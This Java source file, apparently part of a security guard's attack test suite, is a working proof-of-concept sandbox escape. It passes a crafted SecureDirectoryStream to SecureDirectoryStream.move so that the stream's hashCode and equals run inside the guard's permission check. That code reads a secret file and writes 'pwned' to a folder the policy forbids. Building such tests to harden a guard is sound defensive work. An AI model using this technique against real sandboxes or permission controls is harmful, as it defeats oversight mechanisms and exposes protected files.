package dev.agentguard.apps.attacks;

import java.io.IOException;
import java.nio.channels.SeekableByteChannel;
import java.nio.file.DirectoryStream;
import java.nio.file.FileAlreadyExistsException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.OpenOption;
import java.nio.file.Path;
import java.nio.file.SecureDirectoryStream;
import java.nio.file.attribute.FileAttribute;
import java.nio.file.attribute.FileAttributeView;
import java.util.Iterator;
import java.util.Set;

/**
 * {@code SecureDirectoryStream.move(from, targetStream, to)} with a target stream of the application's own
 * class: its {@code hashCode} (and {@code equals}) are application code. If the guard looks the stream up in a
 * hash map inside a check, that code runs with the guard's checks off: it reads the secret and writes a file in a
 * folder the policy does not grant. Prints what it got.
 *
 * <p>Arguments: the secret file, a folder where writing is allowed, a file to write where it is not.
 */
public final class SecureMoveTargetAttack {
    private SecureMoveTargetAttack() {}

    static volatile String inside = "never called";

    public static void main(String[] args) throws Exception {
        Path secret = Path.of(args[0]);
        Path out = Path.of(args[1]);
        Path forbidden = Path.of(args[2]);
        Files.writeString(out.resolve("from.txt"), "x");
        try (DirectoryStream<Path> ds = Files.newDirectoryStream(out)) {
            if (!(ds instanceof SecureDirectoryStream)) {
                System.out.println("no secure stream");
                return;
            }
            @SuppressWarnings("unchecked")
            SecureDirectoryStream<Path> sds = (SecureDirectoryStream<Path>) ds;
            Evil evil = new Evil(secret, forbidden);
            try {
                sds.move(Path.of("from.txt"), evil, Path.of("to.txt"));
                System.out.println("move: moved");
            } catch (Throwable t) {
                System.out.println("move: " + t.getClass().getSimpleName());
            }
        }
        System.out.println("inside: " + inside);
        System.out.println("write outside the grant: " + Files.exists(forbidden));
    }

    /** Only its hashCode and equals matter: the JDK refuses the move for any stream not its own. */
    static final class Evil implements SecureDirectoryStream<Path> {
        private final Path secret;
        private final Path forbidden;

        Evil(Path secret, Path forbidden) {
            this.secret = secret;
            this.forbidden = forbidden;
        }

        private void act() {
            StringBuilder got = new StringBuilder();
            try {
                got.append("read ").append(Files.readString(secret));
            } catch (Throwable t) {
                got.append("read ").append(t.getClass().getSimpleName());
            }
            try {
                Files.writeString(forbidden, "pwned");
                got.append(", wrote");
            } catch (Throwable t) {
                got.append(", write ").append(t.getClass().getSimpleName());
            }
            inside = got.toString();
        }

        @Override
        public int hashCode() {
            act();
            return 42;
        }

        @Override
        public boolean equals(Object o) {
            act();
            return false;
        }

        @Override
        public SecureDirectoryStream<Path> newDirectoryStream(Path path, LinkOption... options) {
            throw new UnsupportedOperationException();
        }

        @Override
        public SeekableByteChannel newByteChannel(Path path, Set<? extends OpenOption> options,
                                                  FileAttribute<?>... attrs) {
            throw new UnsupportedOperationException();
        }

        @Override
        public void deleteFile(Path path) {
            throw new UnsupportedOperationException();
        }

        @Override
        public void deleteDirectory(Path path) {
            throw new UnsupportedOperationException();
        }

        @Override
        public void move(Path srcpath, SecureDirectoryStream<Path> targetdir, Path targetpath) {
            throw new UnsupportedOperationException();
        }

        @Override
        public <V extends FileAttributeView> V getFileAttributeView(Class<V> type) {
            return null;
        }

        @Override
        public <V extends FileAttributeView> V getFileAttributeView(Path path, Class<V> type, LinkOption... options) {
            return null;
        }

        @Override
        public Iterator<Path> iterator() {
            throw new UnsupportedOperationException();
        }

        @Override
        public void close() throws IOException {
        }
    }
}
